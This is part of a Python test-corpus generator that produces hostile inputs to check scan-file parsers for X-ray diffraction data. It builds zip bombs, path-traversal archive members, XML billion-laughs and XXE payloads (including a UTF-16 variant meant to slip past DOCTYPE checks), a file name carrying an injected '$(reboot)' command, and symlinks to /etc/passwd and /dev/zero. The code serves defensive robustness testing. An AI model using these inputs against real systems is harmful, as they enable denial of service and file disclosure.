    for method, label in ((9, "deflate64"), (14, "lzma"), (12, "bzip2 header on deflate data"), (99, "AES")):
        b.add(f"bomb--method-{label.split()[0]}.brml", _flag_member(_zip_bytes(members), raw_name, method=method),
              "zip_bomb", src, f"RawData0.xml compression method set to {method} ({label})", REJECT)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the duplicate: intended
        duplicate = _zip_bytes(members + [(raw_name, b"<RawData/>")])
    b.add("bomb--duplicate-names.brml", duplicate, "zip_bomb", src,
          "two members named RawData0.xml", EITHER)
    b.add("bomb--path-traversal.brml",
          _zip_bytes(members + [("../../../../tmp/xrd-agent-pwned.xml", b"<x/>"), ("/etc/evil.xml", b"<x/>")]),
          "zip_bomb", src, "extra members named ../../../../tmp/... and /etc/... (must never be extracted)",
          EITHER)


def _overlapping_zip(members: list[tuple[str, bytes]], raw_name: str, size: int, copies: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        for m_name, payload in members:
            if m_name != raw_name:
                zf.writestr(_info(m_name), payload)
        with zf.open(_info(raw_name), "w", force_zip64=True) as fh:
            block = b"\x00" * 2**20
            for _ in range(size // len(block)):
                fh.write(block)
    data = buf.getvalue()
    eocd = data.rfind(b"PK\x05\x06")
    (cd_size, cd_off) = struct.unpack_from("<II", data, eocd + 12)
    if cd_off == 0xFFFFFFFF:
        raise ValueError("unexpected zip64 directory")
    cd = data[cd_off: cd_off + cd_size]
    pos = cd.find(b"PK\x01\x02" + cd[4:4])  # first entry
    entries = []
    while pos >= 0 and pos < len(cd):
        n, e, c = struct.unpack_from("<HHH", cd, pos + 28)
        entries.append(cd[pos: pos + 46 + n + e + c])
        pos += 46 + n + e + c
    raw_entry = next(e for e in entries if e[46: 46 + len(raw_name.encode())] == raw_name.encode())
    extra = [raw_entry] * (copies - 1)
    new_cd = b"".join(entries + extra)
    count = len(entries) + len(extra)
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(new_cd), cd_off, 0)
    return data[:cd_off] + new_cd + tail


def _lying_size_zip(members: list[tuple[str, bytes]], raw_name: str) -> bytes:
    payload = b"\x00" * (64 * 2**20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = comp.compress(payload) + comp.flush()
    crc = zlib.crc32(payload[:1024])
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for m_name, body in members:
            if m_name != raw_name:
                zf.writestr(_info(m_name), body)
    data = bytearray(buf.getvalue())
    eocd = data.rfind(b"PK\x05\x06")
    count, cd_size, cd_off = struct.unpack_from("<HII", data, eocd + 10)
    cd = bytes(data[cd_off: cd_off + cd_size])
    body = bytes(data[:cd_off])
    name = raw_name.encode()
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(stream), 1024, len(name), 0)
    new_off = len(body)
    body += local + name + stream
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(stream), 1024,
                          len(name), 0, 0, 0, 0, 0, new_off) + name
    new_cd = cd + central
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count + 1, count + 1, len(new_cd), len(body), 0)
    return body + new_cd + tail


def _flag_member(data: bytes, name: str, *, flag: int = 0, method: int | None = None) -> bytes:
    """Set the general-purpose flag bits and/or the compression method of one member, in its
    local header and its central-directory record."""
    buf = bytearray(data)
    enc = name.encode()
    for sig, flag_off, method_off, name_off in ((b"PK\x03\x04", 6, 8, 30), (b"PK\x01\x02", 8, 10, 46)):
        pos = buf.find(sig)
        while pos >= 0:
            if buf[pos + name_off: pos + name_off + len(enc)] == enc:
                (cur,) = struct.unpack_from("<H", buf, pos + flag_off)
                struct.pack_into("<H", buf, pos + flag_off, cur | flag)
                if method is not None:
                    struct.pack_into("<H", buf, pos + method_off, method)
            pos = buf.find(sig, pos + 4)
    return bytes(buf)


def _xml_bombs(b: _Builder, brml: dict[str, bytes], xrdml: dict[str, bytes]) -> None:
    attacks = (("billion-laughs", BILLION_LAUGHS, b"&lol9;"), ("xxe-file", XXE_FILE, b"&xxe;"),
               ("xxe-network", XXE_NET, b""), ("xxe-parameter", XXE_PARAM, b""),
               ("quadratic", QUADRATIC, b"&a;" * 20_000))
    src, data = min(brml.items(), key=lambda kv: len(kv[1]))
    members = _brml_members(data)
    for member in ("RawData0.xml", "DataContainer.xml"):
        idx = _find_member(members, member)
        xml = members[idx][1]
        for label, prolog, ref in attacks:
            mutated = list(members)
            mutated[idx] = (members[idx][0], _xml_with_doctype(xml, prolog, ref))
            b.add(f"xmlbomb--{label}--{member[:7]}.brml", _zip_bytes(mutated), "xml_bomb", src,
                  f"{label} DOCTYPE spliced into {member}", REJECT)
        # The same bomb in UTF-16, so a byte search for b"<!DOCTYPE" does not see it.
        mutated = list(members)
        doc = _xml_with_doctype(xml, BILLION_LAUGHS, b"&lol9;").decode("utf-8", "replace")
        doc = doc.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>', 1)
        mutated[idx] = (members[idx][0], doc.encode("utf-16"))
        b.add(f"xmlbomb--billion-laughs-utf16--{member[:7]}.brml", _zip_bytes(mutated), "xml_bomb", src,
              f"billion laughs in UTF-16 in {member}", REJECT)
    for src, data in xrdml.items():
        for label, prolog, ref in attacks:
            b.add(f"xmlbomb--{label}--{_stem(src)}.xrdml", _xml_with_doctype(data, prolog, ref), "xml_bomb", src,
                  f"{label} DOCTYPE spliced into the XRDML document", REJECT)


def _huge(b: _Builder, fixtures: dict[str, bytes], sizes: tuple[int, ...]) -> None:
    heads = {".raw": next(d for d in fixtures.values() if d.startswith(b"RAW4.00"))[:1024],
             ".brml": next(d for d in fixtures.values() if d.startswith(b"PK\x03\x04"))[:4096],
             ".xy": b"5.0 1\n5.01 2\n"}
    for ext, head in heads.items():
        for size in sizes:
            b.sparse(f"huge--{size >> 20}MiB{ext}", head, size, "huge", f"sparse file of {size:,} bytes, real head")
    # Within a 256 MiB cap but claiming 26 M points of 8-byte records (all zero counts).
    raw4 = next(d for d in fixtures.values() if d.startswith(b"RAW4.00"))
    off = _raw4_range_offset(raw4)
    extra = struct.unpack_from("<I", raw4, off + RAW4_RANGE_OFFSETS["extra_size"])[0]
    head_end = off + RAW4_RANGE_HEADER + extra
    steps = (200 * 2**20 - head_end) // 8
    head = _set(raw4[:head_end], off + RAW4_RANGE_OFFSETS["steps"], "<I", steps)
    b.sparse("huge--200MiB-consistent.raw", head, head_end + steps * 8, "huge",
             f"sparse 200 MiB RAW4 whose header consistently claims {steps:,} points", EITHER)


def _names_and_places(b: _Builder, fixtures_dir: Path, fixtures: dict[str, bytes], outside: Path) -> None:
    odd = ["scan with spaces.xy", "ünïcødé-测试-サンプル.xy", "new\nline.xy", "tab\tname.xy", "-leading-dash.xy",
           "semi;colon&amp$(reboot).xy", "quote'\"back\\slash.xy", "x" * 240 + ".xy", "emoji-🧪🔬.xy",
           "trailing-space .xy", "UPPER.XY", "two.dots..xy", "%s%n%x.xy", "{json}[brackets].xy",
           "carriage\rreturn.xy", "zero\u200bwidth.xy", "rtl-\u202egnp.xy"]
    for name in odd:
        b.add(name, synthetic_xy(b.rng), "odd_name", None, f"valid synthetic scan named {name!r}", VALID)
    # Undecodable bytes in the name (Linux allows any byte but / and NUL).
    raw_name = os.fsdecode(b"latin1-\xe9\xff-name.xy")
    b.add(raw_name, synthetic_xy(b.rng), "odd_name", None, "valid scan whose name is not UTF-8", VALID)
    # Deep folders: a valid scan and a junk file 60 levels down.
    deep = "/".join(f"level{i:02d}" for i in range(60))
    b.add(f"deep/{deep}/deep-valid.xy", synthetic_xy(b.rng), "deep_folder", None, "valid scan 60 folders deep", VALID)
    b.add(f"deep/{deep}/deep-junk.raw", b"RAW4.00\x00" + b.rng.randbytes(100), "deep_folder", None,
          "junk RAW4 60 folders deep", REJECT)
    # Symlinks leading outside the corpus (the export folder in a service run).
    outside.mkdir(parents=True, exist_ok=True)
    secret = outside / "outside-secret.xy"
    secret.write_bytes(synthetic_xy(b.rng))
    fixture = next(fixtures_dir / n for n in sorted(fixtures) if n.endswith(".raw"))
    for name, target, detail in (
        ("link-to-fixture.raw", fixture, "symlink to a real fixture outside the folder"),
        ("link-to-outside.xy", secret, "symlink to a valid scan outside the folder"),
        ("link-to-etc-passwd.xy", "/etc/passwd", "symlink to /etc/passwd"),
        ("link-to-dev-zero.raw", "/dev/zero", "symlink to /dev/zero (endless)"),
        ("link-to-dev-urandom.brml", "/dev/urandom", "symlink to /dev/urandom (endless)"),
        ("link-to-root.raw", "/", "symlink to a directory"),
        ("link-dangling.raw", outside / "does-not-exist.raw", "dangling symlink"),
        ("link-relative-escape.xy", "../../../../../../../../etc/hostname", "relative symlink escaping the folder"),
    ):
        b.symlink(name, target, detail)
    b.symlink("link-loop-a.raw", "link-loop-b.raw", "symlink loop (a -> b)")
    b.symlink("link-loop-b.raw", "link-loop-a.raw", "symlink loop (b -> a)")
    b.special("fifo.raw", "fifo", "a named pipe: opening it for reading blocks forever")
    b.special("fifo.xy", "fifo", "a named pipe with a text extension")
    b.special("directory.raw", "dir", "a directory named like a scan")
    b.special("directory.brml", "dir", "a directory named like a BRML file")


def load_fixtures(fixtures_dir: Path) -> dict[str, bytes]:
    """The instrument files of a fixture folder (README and expected.json excluded)."""
    out = {}
    for path in sorted(Path(fixtures_dir).iterdir()):
        if path.is_file() and path.suffix.lower() not in {".md", ".json"}:
            out[path.name] = path.read_bytes()
    if not out:
        raise FileNotFoundError(f"no fixture scans in {fixtures_dir}")
    return out


def generate(fixtures_dir: Path, root: Path, *, seed: int = 0, flips_per_fixture: int = 100,
             junk: int = 200, bomb_bytes: int = BOMB_BYTES, huge_sizes: tuple[int, ...] = HUGE_SIZES,
             outside: Path | None = None) -> Corpus:
    """Write the corpus into the empty folder ``root`` and return its description.

    ``outside`` is where symlink targets go (default: a sibling of ``root``), so links really
    lead out of the folder a service watches. Deterministic for a given seed and fixtures.
    """
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    if any(root.iterdir()):
        raise FileExistsError(f"{root} is not empty")
    rng = random.Random(seed)
    b = _Builder(root, rng)
    fixtures = load_fixtures(fixtures_dir)
    fixtures["synthetic.xy"] = synthetic_xy(random.Random(seed + 1))
    brml = {k: v for k, v in fixtures.items() if v.startswith(b"PK\x03\x04")}
    xrdml = {k: v for k, v in fixtures.items() if k.lower().endswith(".xrdml")}
    for src, data in fixtures.items():
        _truncations(b, src, data)
        _bitflips(b, src, data, flips_per_fixture)
        if data.startswith(b"PK\x03\x04"):
            _brml_inner(b, src, data)
    _absurd(b, fixtures)
    _magic_junk(b, junk)
    if brml:
        _zip_bombs(b, brml, bomb_bytes)
    _xml_bombs(b, brml, xrdml)
    _huge(b, fixtures, huge_sizes)
    _names_and_places(b, Path(fixtures_dir), fixtures, outside or root.parent / f"{root.name}-outside")
    return Corpus(root, seed, tuple(b.cases))


def is_special(path: Path) -> bool:
    """True for what must never be opened by a harness (FIFOs, devices, links)."""
    try:
        mode = os.lstat(path).st_mode
    except OSError:
        return False
    return not (stat.S_ISREG(mode) or stat.S_ISDIR(mode))
